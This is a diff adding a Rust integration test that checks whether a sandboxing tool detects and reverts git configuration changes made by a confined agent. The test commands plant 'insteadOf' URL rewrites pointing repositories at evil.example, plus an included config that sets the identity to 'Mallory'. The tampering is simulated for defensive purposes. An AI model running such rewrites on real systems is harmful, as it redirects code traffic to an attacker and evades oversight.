@@ -137,3 +137,59 @@ fn a_nested_link_out_of_the_manifests_directory_is_refused_before_any_machine() 
     }
     assert_eq!(p.double.mutating_calls(), 0);
 }
+
+// --- git: what git will use, as the agent user -------------------------------
+
+/// What `git ls-remote --get-url` resolves an upstream to, as the agent.
+fn resolved(p: &Project, upstream: &str) -> String {
+    as_agent(p, &format!("cd / && git ls-remote --get-url {upstream}"))
+}
+
+#[test]
+fn a_rewrite_of_a_declared_upstream_anywhere_git_reads_is_drift_that_apply_removes() {
+    let p = project();
+    p.bottle(&["apply"]).success();
+    let docs = "https://github.com/acme/docs.git";
+    assert_eq!(resolved(&p, docs), "http://10.8.0.2:9418/docs.git\n");
+    // The agent's own rewrite, in the file git reads before ~/.gitconfig.
+    as_agent(
+        &p,
+        &format!(
+            "mkdir -p ~/.config/git && git config --file ~/.config/git/config \
+             url.http://evil.example/docs.insteadOf {docs}"
+        ),
+    );
+    assert_eq!(resolved(&p, docs), "http://evil.example/docs\n");
+    let check = p.bottle(&["check"]);
+    check.code(3);
+    assert!(
+        check
+            .stdout
+            .contains("coder: git (apply needed): git configuration changed in guest"),
+        "{}",
+        check.stdout
+    );
+    p.bottle(&["apply"]).success();
+    assert_eq!(resolved(&p, docs), "http://10.8.0.2:9418/docs.git\n");
+    p.bottle(&["check"]).success();
+
+    // One in a file ~/.gitconfig includes, and another identity.
+    as_agent(
+        &p,
+        &format!(
+            "printf \"[url \\\"http://evil.example/app\\\"]\\n\\tinsteadOf = git@github.com:acme/app.git\\n[user]\\n\\tname = Mallory\\n\" > ~/evil.inc && \
+             git config --global include.path ~/evil.inc"
+        ),
+    );
+    assert_eq!(
+        resolved(&p, "git@github.com:acme/app.git"),
+        "http://10.8.0.2:9418/app.git\n",
+        "bottle's line comes first in ~/.gitconfig: its rewrite still wins"
+    );
+    assert_eq!(as_agent(&p, "cd / && git config user.name"), "Mallory\n");
+    p.bottle(&["check"]).code(3);
+    p.bottle(&["apply"]).success();
+    assert_eq!(as_agent(&p, "cd / && git config user.name"), "E2E Bot\n");
+    assert!(!as_agent(&p, "cat ~/evil.inc").contains("acme"));
+    p.bottle(&["check"]).success();
+}
